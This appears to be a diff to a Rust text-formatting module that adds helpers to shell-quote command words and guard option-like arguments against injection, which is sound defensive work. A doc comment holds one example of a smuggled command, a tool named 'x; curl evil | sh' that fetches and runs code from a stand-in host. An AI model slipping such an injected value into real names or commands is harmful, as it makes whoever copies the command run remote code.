@@ -139,6 +139,32 @@ pub fn elided(text: &str, chars_max: usize) -> String {
     format!("{head}{words}{tail}")
 }
 
+/// A word of a command as a shell takes it: quoted, unless it is plain. Hidden characters
+/// are made visible first, so that what is read is what is run.
+///
+/// Attack: a tool is called `x; curl evil | sh`, and a message names a command for it that a
+/// person copies.
+#[must_use]
+pub fn shell_word(word: &str) -> String {
+    let shown = one_line(word);
+    let is_plain = |letter: char| letter.is_ascii_alphanumeric() || "_-./:=@%+,".contains(letter);
+    match !shown.is_empty() && shown.chars().all(is_plain) {
+        true => shown,
+        false => format!("'{}'", shown.replace('\'', r"'\''")),
+    }
+}
+
+/// [`shell_word`] for an argument without an option before it: one that looks like an option
+/// stands behind `--`.
+#[must_use]
+pub fn shell_argument(word: &str) -> String {
+    let quoted = shell_word(word);
+    match word.starts_with('-') {
+        true => format!("-- {quoted}"),
+        false => quoted,
+    }
+}
+
 /// `1 host`, `2 hosts`.
 #[must_use]
 pub fn count(number: usize, noun: &str) -> String {
